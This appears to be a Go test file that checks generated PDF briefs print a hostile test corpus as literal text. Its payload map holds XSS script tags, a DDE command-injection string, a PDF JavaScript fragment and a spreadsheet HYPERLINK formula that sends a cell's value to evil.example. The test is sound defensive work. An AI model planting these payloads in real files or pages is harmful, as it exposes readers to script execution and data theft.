package build_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// hostileBriefText names, per brief, content texts of the hostile corpus
// that the brief prints; each must read back from the PDF (pdftotext) as
// written: Markdown and markup in content are text in a brief, never
// emphasis, links, headings or a split table row.
var hostileBriefText = map[string][]string{
	"pdf/rapat/rakor-2024-03.pdf": {
		`=HYPERLINK("http://evil.example/?"&A1,"klik") <script>alert("decision.text")</script>`,
		`+cmd|' /C calc'!A0 <iframe src=javascript:alert(1)>`,
		`@SUM(1+1) ) /JS (app.alert(1)`,
		`-2+3 </text><script>alert(1)</script>`,
		`<script>alert("objective")</script>`,
		`[x](javascript:alert(1)) <img src=x onerror=alert(1)>`,
	},
	"pdf/anggaran/2024.pdf": {
		`=HYPERLINK("http://evil.example/","Dinsos <script>alert(1)</script>")`,
		`UPTD <svg><script>alert("agency.name")</script></svg>`,
	},
	"pdf/wilayah/36.01.pdf": {
		`Persentase <script>alert("indicator.name")</script> miskin`,
		`klik") <script>alert("decision.text")</script>`,
	},
}

var spaces = regexp.MustCompile(`\s+`)

// hostileCheckPDFText reads each brief's text with poppler and looks for
// the payloads; every brief is also checked to link nowhere but http(s)
// sources (hostileCheckPDF reads the annotations).
func hostileCheckPDFText(t *testing.T, h *hostileOut) {
	t.Helper()
	if _, err := exec.LookPath("pdftotext"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("pdftotext (poppler-utils) is required in CI")
		}
		t.Log("pdftotext not installed (apt-get install poppler-utils): skipping the text of the briefs")
		return
	}
	for name, payloads := range hostileBriefText {
		out, err := exec.Command("pdftotext", "-enc", "UTF-8", filepath.Join(h.out, filepath.FromSlash(name)), "-").CombinedOutput()
		if err != nil {
			t.Fatalf("pdftotext %s: %v\n%s", name, err, out)
		}
		// Table cells wrap at spaces; compare without them.
		text := spaces.ReplaceAllString(string(out), "")
		for _, p := range payloads {
			if !strings.Contains(text, spaces.ReplaceAllString(p, "")) {
				t.Errorf("%s: does not print %q as written; pdftotext reads:\n%s", name, p, out)
			}
		}
	}
}
